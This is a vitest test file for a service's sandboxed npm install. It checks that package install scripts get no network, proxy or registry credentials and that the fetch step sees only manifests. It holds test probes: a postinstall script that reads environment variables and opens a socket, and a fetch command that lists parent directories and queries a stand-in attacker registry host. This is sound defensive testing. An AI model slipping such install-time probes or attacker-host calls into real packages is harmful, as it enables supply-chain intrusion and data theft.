import { afterAll, expect, test } from 'vitest'
import { isLong } from '../soak.ts'
import { mergeUnverified } from '../delivery.ts'
import { bundleOf, importProject } from '../repository.ts'
import { scene } from '../scene.ts'
import { testServer } from '../server.ts'
import { allPassed, deliverChecked } from './deliver-checked.ts'
import { npmRegistry } from './npm.ts'

// The view of a package's own script during its install: no network, the tree, and no credentials.
const lookAround = `
  const { writeFileSync, existsSync } = require('node:fs')
  const out = (answer) => writeFileSync('found.json', JSON.stringify(answer))
  const answer = { tree: existsSync(process.env.INIT_CWD + '/sum.js'), proxy: process.env.HTTPS_PROXY ?? null }
  const socket = require('node:net').connect(9, '192.0.2.1')
  socket.on('error', ({ code }) => out({ ...answer, network: code }))
  socket.on('connect', () => out({ ...answer, network: 'open' }))`

const registry = await npmRegistry(
  [
    {
      name: 'tiny-runner',
      version: '1.2.3',
      bin: { 'tiny-runner': 'run.js' },
      files: {
        'run.js':
          "#!/usr/bin/env node\nimport('node:url').then(({ pathToFileURL }) => import(pathToFileURL('sum.test.mjs')))\n",
      },
    },
    {
      name: 'curious',
      version: '1.0.0',
      scripts: { postinstall: 'node look.js' },
      files: { 'look.js': lookAround },
    },
  ],
  'reader:s3cret-of-registry',
)
afterAll(() => registry.close())
const server = await testServer({ ATELIER_REGISTRIES: `npm=${registry.address}` })

const project = (names: readonly string[], test: string, more: Readonly<Record<string, string>> = {}) => ({
  'package.json': JSON.stringify({
    name: 'sum',
    scripts: { test: 'tiny-runner' },
    dependencies: Object.fromEntries(names.map((name) => [name, name === 'curious' ? '1.0.0' : '1.2.3'])),
  }),
  'package-lock.json': registry.lockFor(...names),
  'sum.js': 'module.exports = (a, b) => a + b\n',
  'sum.test.mjs': test,
  ...more,
})

test.runIf(isLong)('tests run with the packages of the lock file, which are fetched and installed once', async () => {
  const a = await scene(server)
  const files = project(['tiny-runner'], "import sum from './sum.js'\nif (sum(1, 2) !== 3) process.exit(1)\n")
  const { projectId } = await importProject(a.owner, await bundleOf(files))
  await mergeUnverified(a.owner, projectId)
  const first = await deliverChecked(a, projectId, 'one.txt')
  expect(first, JSON.stringify(first)).toMatchObject({ status: 'completed' })
  expect(first.checks.map(({ is }) => is)).toEqual(allPassed)
  // Nothing has git ignore the packages, and yet they are no part of the change.
  expect(first.files).toEqual(['one.txt'])
  const asked = registry.asked.length
  expect(asked).toBeGreaterThan(0)
  const second = await deliverChecked(a, projectId, 'two.txt')
  expect(second.checks.map(({ is }) => is)).toEqual(allPassed)
  expect(registry.asked.length).toBe(asked)
  const unpacked = [...first.checks, ...second.checks].filter(({ log }) => log.startsWith('Unpacked')).length
  expect(unpacked).toBe(3)
})

test('the script of a package sees the tree and has no network, no proxy and no credentials', async () => {
  const a = await scene(server)
  const look =
    "import { readFileSync } from 'node:fs'\nconsole.log(readFileSync('node_modules/curious/found.json', 'utf8'), Object.values(process.env).join())\n"
  const { projectId } = await importProject(a.owner, await bundleOf(project(['tiny-runner', 'curious'], look)))
  await mergeUnverified(a.owner, projectId)
  const { status, checks } = await deliverChecked(a, projectId, 'one.txt')
  expect(status).toBe('completed')
  expect(checks.map(({ is }) => is)).toEqual(allPassed)
  expect(checks[1]!.log).toContain('{"tree":true,"proxy":null,"network":"ENETUNREACH"}')
  expect(JSON.stringify(checks)).not.toContain('s3cret-of-registry')
})

test.runIf(isLong)(
  'the fetch sees only manifests and lock files, and the log has a host that it may not reach, with the setting that allows it',
  async () => {
    const a = await scene(server)
    const files = project(['tiny-runner'], '')
    const { projectId } = await importProject(
      a.owner,
      await bundleOf({ ...files, 'private/plan.txt': 'x', '.env.js': 'y' }),
    )
    const elsewhere = 'npm view tiny-runner --fetch-retries=0 --registry https://packages.attacker.example/'
    await mergeUnverified(a.owner, projectId, { fetch: `find . -type f | sort; ls -A ..; ${elsewhere}` })
    const { checks } = await deliverChecked(a, projectId, 'one.txt')
    expect(checks[0]!.is).toBe('base setup failed')
    expect(checks[0]!.log).toMatch(
      /^The setup failed: [^\n]*\n\.\/package-lock\.json\n\.\/package\.json\ncache\nmanifests\n/,
    )
    expect(checks[0]!.log).toMatch(/packages\.attacker\.example:443: .*ATELIER_EGRESS_HOSTS/s)
  },
)
